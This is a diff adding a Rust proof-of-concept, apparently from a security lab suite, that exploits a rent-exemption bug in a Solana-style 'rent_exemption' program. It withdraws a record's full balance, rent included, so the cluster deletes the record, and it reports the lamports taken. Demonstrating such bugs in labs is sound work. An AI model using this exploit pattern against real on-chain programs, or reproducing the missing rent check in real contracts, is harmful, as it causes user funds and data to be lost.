@@ -0,0 +1,84 @@
+//! poc-rent-exemption: withdraws a record's rent along with its balance,
+//! closing it
+//!
+//! ```bash
+//! poc-rent-exemption [--rpc URL] [--amount LAMPORTS]
+//! ```
+//!
+//! The withdrawal is the honest one a user makes from their own record, so
+//! this sets up the record and plays the user too; the bug is that the
+//! program lets the rent go with it, and the cluster then deletes the
+//! record.
+
+use std::process::ExitCode;
+
+use anyhow::Result as AnyResult;
+use clap::Parser;
+use lab_client::rent_exemption::Client;
+use lab_client::signers::VICTIM;
+use lab_client::{Keypair, Signer};
+use lab_pocs::{Exploit, Report, Target};
+
+/// UserData: owner, balance, metadata
+const USER_DATA_LEN: usize = 32 + 8 + 32;
+
+#[derive(Parser)]
+#[command(
+    name = "poc-rent-exemption",
+    about = "Close a rent_exemption record by withdrawing everything in it"
+)]
+struct Args {
+    #[command(flatten)]
+    target: Target,
+    /// What the record holds beyond its rent
+    #[arg(long, default_value_t = 100_000_000)]
+    amount: u64,
+}
+
+fn main() -> ExitCode {
+    lab_pocs::run(poc)
+}
+
+async fn poc(args: Args) -> AnyResult<Report> {
+    let client = Client::new(args.target.client("rent_exemption")?);
+    let mut report = Report::new("rent_exemption", &args.target, &client);
+    let record = Keypair::new();
+    let user = args.target.signers().keypair(VICTIM)?;
+    let signature = client
+        .create_account(&record, USER_DATA_LEN, args.amount)
+        .await?;
+    report.setup(
+        format!(
+            "created record {} with {} lamports",
+            record.pubkey(),
+            args.amount
+        ),
+        signature,
+    );
+    let signature = client.initialize(record.pubkey(), &user).await?;
+    report.setup(format!("{} opened it", user.pubkey()), signature);
+
+    let record = record.pubkey();
+    report.inspect(&client, "before", record).await?;
+    let held = client.lamports(record).await?;
+    let withdrawn = client
+        .withdraw_all(record, &user, client.payer().pubkey())
+        .await;
+    let left = client.lamports(record).await?;
+    report.inspect(&client, "after", record).await?;
+    Ok(report.exploit(
+        record,
+        withdrawn.map(|_| Exploit {
+            landed: left == 0,
+            outcome: if left == 0 {
+                format!("withdrew all {held} lamports, rent included, and the record is gone")
+            } else {
+                format!(
+                    "withdrew {} lamports, and the record keeps its rent",
+                    held - left
+                )
+            },
+            lamports_taken: Some(held - left),
+        }),
+    ))
+}